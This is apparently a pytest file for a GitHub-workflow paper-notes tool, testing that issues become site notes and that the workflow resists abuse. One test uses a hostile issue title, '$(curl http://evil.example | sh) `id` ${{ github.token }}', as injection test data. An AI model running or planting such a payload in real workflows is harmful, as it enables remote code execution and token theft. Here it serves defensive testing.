"""A day in a repository: `papers init`, then the workflow's own commands on events as GitHub sends them."""

import json
import os
import re
import shlex
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from paper_notes.rules.setting_up.wanted_files import WORKFLOW
from tests.arxiv_server import ArxivServer
from tests.conftest import Run
from tests.github_events import comment_event, issue_event, scheduled
from tests.github_server import GitHubServer
from tests.workflows import evaluated

yaml = pytest.importorskip("yaml", reason="needs PyYAML")

BOT, BOT_TOKEN = "github-actions[bot]", "ghs_workflow"
"""Who a workflow is, and its token."""

ADDRESS = "https://alice.github.io/papers"


class Actions:
    """Runs the workflow of the repository as GitHub does: on a fresh machine, if its condition lets it."""

    def __init__(self, server: GitHubServer, papers: Run, folder: Path, patch: pytest.MonkeyPatch) -> None:
        self.server = server
        self.runs = 0
        self._papers = papers
        self._folder = folder
        self._patch = patch

    def __call__(self, kind: str, payload: str) -> Path | None:
        """Deliver an event; return the folder with the site, or None if nothing ran."""
        workflow = yaml.safe_load(self.server.repo.branches["main"][WORKFLOW])
        jobs = workflow["jobs"]
        if not evaluated(jobs["notes"]["if"], facts(json.loads(payload))):
            return None
        self.runs += 1
        machine = self._folder / str(self.runs)
        for path, content in self.server.repo.branches["main"].items():
            (machine / path).parent.mkdir(parents=True, exist_ok=True)
            (machine / path).write_bytes(content)
        (machine / "event.json").write_text(payload, encoding="utf-8")
        self._patch.chdir(machine)
        for step in [*jobs["notes"]["steps"], *jobs["site"]["steps"]]:
            if step.get("run", "").startswith("papers "):
                self._step(step, kind, machine)
        return machine / "_site"

    def _step(self, step: dict[str, Any], kind: str, machine: Path) -> None:
        known = {"${{ github.token }}": BOT_TOKEN, "${{ steps.pages.outputs.base_url }}": ADDRESS}
        environment = {
            "GITHUB_EVENT_NAME": kind,
            "GITHUB_EVENT_PATH": str(machine / "event.json"),
            "GITHUB_REPOSITORY": "alice/papers",
            "GITHUB_STEP_SUMMARY": str(machine / "summary.md"),
            "PAPERS_HOME": str(machine / "home"),
            **{name: known.get(value, value) for name, value in step["env"].items()},
        }
        with self._patch.context() as patch:
            for name, value in environment.items():
                patch.setenv(name, value)
            _, *words = shlex.split(step["run"])
            self._papers("", *map(os.path.expandvars, words))


def facts(payload: Any) -> Callable[[str], Any]:
    """Return what the names in an expression mean for that event; none of the variables is set."""

    def value(name: str) -> Any:
        found: Any = {"github": {"event": payload}, "vars": {}}
        for part in name.split("."):
            found = found.get(part) if isinstance(found, dict) else None
        return found

    return value


@pytest.fixture
def actions(
    github: GitHubServer, arxiv: ArxivServer, papers: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Actions:
    """Have an empty repository of alice's set up by her, with a site."""
    github.repo.branches.clear()
    papers("init alice/papers --remote")
    github.tokens[BOT_TOKEN] = BOT
    github.repo.roles[BOT] = "push"
    github.repo.has_pages = True
    monkeypatch.delenv("GH_TOKEN")
    return Actions(github, papers, tmp_path, monkeypatch)


def state(server: GitHubServer) -> tuple[Any, ...]:
    """Return everything that others see, but for times."""
    issues = [
        {name: value for name, value in issue.items() if not name.endswith("_at")}
        for issue in server.repo.issues.values()
    ]
    comments = [each["body"] for each in server.repo.comments.values()]
    return json.dumps(issues), comments, dict(server.repo.branches["main"])


def readme(server: GitHubServer) -> str:
    """Return the README, with the list in it."""
    return server.repo.branches["main"]["README.md"].decode()


PAGES = {
    *(".nojekyll", ".papers-site.json", "404.html", "feed.xml", "index.html", "notes.bib", "notes.json"),
    *("assets/icon.svg", "assets/site.js", "assets/style.css", "robots.txt", "sitemap.xml"),
    *("notes/index.html", "notes/1/index.html", "statistics/index.html"),
    *("topics/index.html", "topics/NLP/index.html", "topics/NLP/feed.xml"),
    *("years/index.html", "years/2017/index.html"),
}
"""The whole site of one paper that was read."""


def test_a_link_from_a_phone_becomes_a_note_on_the_site(actions: Actions) -> None:
    """An issue with a link gets its title, topics and block; read, it is in the list and on the site."""
    server, repo = actions.server, actions.server.repo
    number = repo.open_issue(".", "https://arxiv.org/abs/1706.03762\r\n\r\nTry this!")
    site = actions("issues", issue_event(server, "opened", number))
    assert site is not None
    issue = repo.issue(number)
    assert (issue["title"], issue["labels"], issue["state"]) == ("Attention Is All You Need", ["NLP"], "open")
    assert issue["body"].endswith("https://arxiv.org/abs/1706.03762\r\n\r\nTry this!")
    repo.close(number)
    site = actions("issues", issue_event(server, "closed", number))
    assert site is not None
    assert "[Attention Is All You Need](https://github.com/alice/papers/issues/1)" in readme(server)
    assert readme(server).startswith("# papers\n\n<!-- papers:list begin -->")
    files = {path.relative_to(site).as_posix() for path in site.rglob("*") if path.is_file()}
    # What searches is there only with Pagefind.
    assert {file for file in files if "search" not in file and "pagefind" not in file} == PAGES
    page = (site / "notes" / "1" / "index.html").read_text(encoding="utf-8")
    assert "Attention Is All You Need" in page
    assert "Try this!" in page
    assert ADDRESS in (site / "sitemap.xml").read_text(encoding="utf-8")
    summary = (site.parent / "summary.md").read_text(encoding="utf-8")
    headings = re.findall("^### (.*)$", summary, re.MULTILINE)
    assert headings == ["Papers: what was done", "papers publish", "papers site"]
    assert "Published README.md in alice/papers" in summary


def test_events_come_three_times_and_in_any_order(actions: Actions) -> None:
    """The outcome is that of once."""
    server, repo = actions.server, actions.server.repo
    first = repo.open_issue(
        "[Paper]", "### Link to the paper\r\n\r\n1512.03385\r\n\r\n### Topics\r\n\r\nRL, CV"
    )
    second = repo.open_issue("again", "arxiv.org/abs/1512.03385")
    events = [issue_event(server, "opened", number) for number in (first, second)]
    for event in events:
        actions("issues", event)
    before = state(server)
    labels = [issue["labels"] for issue in repo.issues.values()]
    assert (labels[0], repo.issue(second)["state_reason"]) == (["RL", "CV"], "duplicate")
    commits = list(repo.commits)
    for event in [events[1], events[0], events[1], events[0]]:
        actions("issues", event)
    actions("schedule", scheduled(server))
    assert (state(server), repo.commits) == (before, commits)


HOSTILE = "$(curl http://evil.example | sh) `id` ${{ github.token }}"


def test_a_stranger_moves_nothing(actions: Actions) -> None:
    """Whatever a stranger does, no job starts; when somebody else starts one, it is only counted."""
    server, repo = actions.server, actions.server.repo
    block = (
        "<!-- papers:begin v1 {} -->\nforged\n<!-- papers:end -->\n@alice https://arxiv.org/abs/1706.03762"
    )
    number = repo.open_issue(HOSTILE, block + "\nx" * 30_000, author="mallory", labels=("NLP",))
    mine = repo.open_issue("A question", "What do you think?")
    key = repo.comment(mine, "/read 5", author="mallory")
    before = state(server)
    server.forget()
    for action in ("opened", "edited", "reopened", "labeled"):
        assert actions("issues", issue_event(server, action, number)) is None
    assert actions("issue_comment", comment_event(server, key)) is None
    assert (server.log, state(server)) == ([], before)
    site = actions("schedule", scheduled(server))
    assert site is not None
    assert state(server)[:2] == before[:2]
    written = [path.read_bytes() for path in site.rglob("*") if path.is_file()]
    assert not any(
        b"evil.example" in text or b"forged" in text for text in [*written, readme(server).encode()]
    )
    assert "1 issue" in (site.parent / "summary.md").read_text(encoding="utf-8")


def test_pull_requests_start_nothing(actions: Actions) -> None:
    """A comment on one comes as the comment on an issue does."""
    repo = actions.server.repo
    number = repo.open_issue("A change", "https://arxiv.org/abs/1706.03762", pull_request=True)
    key = repo.comment(number, "/read 5")
    assert actions("issue_comment", comment_event(actions.server, key)) is None


def test_a_day_stays_far_under_the_limit(actions: Actions) -> None:
    """One event costs at most a dozen requests in all: a hundred a day are little of 1,000 an hour."""
    server, repo = actions.server, actions.server.repo
    number = repo.open_issue("paper", "1706.03762")
    repo.close(number)
    server.forget()
    actions("issues", issue_event(server, "opened", number))
    assert len(server.log) <= 12
    server.forget()
    actions("issues", issue_event(server, "closed", number))
    assert len(server.log) <= 8
